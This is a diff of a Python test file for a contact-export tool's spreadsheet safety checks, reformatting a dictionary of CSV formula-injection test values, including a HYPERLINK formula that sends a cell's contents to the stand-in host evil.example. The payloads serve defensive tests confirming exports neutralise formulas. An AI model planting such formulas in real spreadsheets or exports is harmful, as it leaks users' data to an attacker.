@@ -295,7 +295,13 @@ def test_a_follow_up_due_far_ahead_still_exports(store: Store):
 # -- spreadsheets --------------------------------------------------------------------------------
 
 LINK = '=HYPERLINK("http://evil.example/?leak="&B3,"Click me")'
-FORMULAS = {"company": LINK, "title": "=1+2", "name": "@SUM(1+1)", "phone": "+44 20 7946 0000", "email": "-2+3@evil.example"}
+FORMULAS = {
+    "company": LINK,
+    "title": "=1+2",
+    "name": "@SUM(1+1)",
+    "phone": "+44 20 7946 0000",
+    "email": "-2+3@evil.example",
+}
 """A card as an attacker would send it: each field a formula a spreadsheet would run."""
 
 
@@ -359,7 +365,8 @@ def test_excel_gets_a_byte_order_mark_and_everyone_else_none(formula_journal: Pa
 @pytest.mark.slow
 @pytest.mark.skipif(
     shutil.which("ssconvert") is None,
-    reason="Gnumeric's ssconvert is not installed (Debian: apt-get install gnumeric); it is the real spreadsheet this test opens the export in",
+    reason="Gnumeric's ssconvert, the real spreadsheet this test opens the export in, is not installed"
+    " (Debian: apt-get install gnumeric)",
 )
 def test_a_real_spreadsheet_shows_the_text_and_computes_no_formula(formula_journal: Path, tmp_path: Path):
     import csv
